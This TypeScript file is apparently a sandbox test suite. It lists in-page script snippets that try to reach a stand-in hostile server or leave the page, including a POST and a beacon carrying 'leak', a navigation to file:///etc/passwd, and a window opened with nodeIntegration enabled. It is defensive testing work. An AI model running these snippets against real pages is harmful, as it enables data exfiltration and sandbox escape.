import { type Attack, aWhile, inPage, leaves, reaches } from './attack.ts';

const loads = (tag: string, fields: string): string =>
  `document.body.append(Object.assign(document.createElement('${tag}'), { ${fields} }));`;

/** Ways out to a network. */
export const networkAttacks: readonly Attack[] = [
  reaches('fetch', 'fetch(HTTP)'),
  reaches('fetch-no-cors', `fetch(HTTP, { mode: 'no-cors', method: 'POST', body: 'leak' })`),
  reaches('xhr', `const request = new XMLHttpRequest(); request.open('GET', HTTP); request.send();`),
  reaches('websocket', 'new WebSocket(WS)'),
  reaches('event-source', 'new EventSource(HTTP)'),
  reaches('beacon', `navigator.sendBeacon(HTTP, 'leak')`),
  reaches('image', 'new Image().src = HTTP'),
  reaches('css-image', `document.body.style.backgroundImage = 'url(' + HTTP + ')'`),
  reaches('font', `document.fonts.add(await new FontFace('x', 'url(' + HTTP + ')').load())`),
  reaches('script', loads('script', 'src: HTTP')),
  reaches('module', 'import(HTTP)'),
  reaches('stylesheet', loads('link', `rel: 'stylesheet', href: HTTP`)),
  reaches('prefetch', loads('link', `rel: 'prefetch', href: HTTP`)),
  reaches('preload', loads('link', `rel: 'preload', as: 'image', href: HTTP`)),
  reaches('iframe', loads('iframe', 'src: HTTP')),
  reaches('object', loads('object', 'data: HTTP')),
  reaches('embed', loads('embed', 'src: HTTP')),
  reaches('video', loads('video', 'src: HTTP')),
  reaches(
    'form',
    `const form = Object.assign(document.createElement('form'), { action: HTTP, method: 'post' }); document.body.append(form); form.submit();`,
  ),
  webrtc('stun'),
  webrtc('turn'),
];

function webrtc(id: 'stun' | 'turn'): Attack {
  return {
    id,
    succeeds: async ({ page, hostile }) => {
      const server = { urls: hostile[id], username: 'x', credential: 'x' };
      await inPage(
        page,
        `const peer = new RTCPeerConnection({ iceServers: [${JSON.stringify(server)}] });
         peer.createDataChannel('x'); await peer.setLocalDescription();`,
      );
      await aWhile();
      return hostile.wasReached(id);
    },
  };
}

/** Ways to another page. */
export const navigationAttacks: readonly Attack[] = [
  leaves('go-http', 'location.href = HTTP'),
  leaves('go-file', `location.href = 'file:///etc/passwd'`),
  leaves('go-data', `location.href = 'data:text/html,<h1>login</h1>'`),
  leaves('go-blob', `location.href = URL.createObjectURL(new Blob(['<h1>login</h1>'], { type: 'text/html' }))`),
  leaves('go-other-host', `location.href = 'app://evil/index.html'`),
  leaves('go-blank', `location.href = 'about:blank'`),
  leaves('link', `Object.assign(document.createElement('a'), { href: HTTP }).click()`),
  leaves('link-blank', `Object.assign(document.createElement('a'), { href: HTTP, target: '_blank' }).click()`),
  leaves('window-open', 'window.open(HTTP)'),
  leaves('window-open-own', `window.open('app://regie/index.html', 'x', 'nodeIntegration=yes')`),
  leaves('meta-refresh', loads('meta', `httpEquiv: 'refresh', content: '0;url=' + HTTP`)),
];
